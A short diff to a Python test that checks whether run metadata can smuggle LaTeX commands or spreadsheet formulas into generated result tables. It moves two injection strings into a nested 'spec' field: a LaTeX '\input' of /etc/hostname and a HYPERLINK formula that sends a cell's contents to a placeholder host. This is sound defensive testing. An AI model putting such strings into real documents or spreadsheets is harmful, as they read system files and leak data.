@@ -473,8 +473,8 @@ def test_run_json_strings_cannot_inject_latex_or_spreadsheet_formulas(study, tmp
     shutil.copytree(root / "runs", runs)
     run_json = runs / "quick" / "teacher-resnet8-ls0-seed0" / "run.json"
     info = json.loads(run_json.read_text())
-    info["model"] = r"\input{/etc/hostname}"
-    info["dataset"] = '=HYPERLINK("http://x/?"&A1,"click")'
+    info["spec"]["model"] = r"\input{/etc/hostname}"
+    info["spec"]["dataset"] = '=HYPERLINK("http://x/?"&A1,"click")'
     run_json.write_text(json.dumps(info))
     assert cli(f"--output_dir={runs}", "--mode=results") == 0
     tables = runs / "quick" / "results"
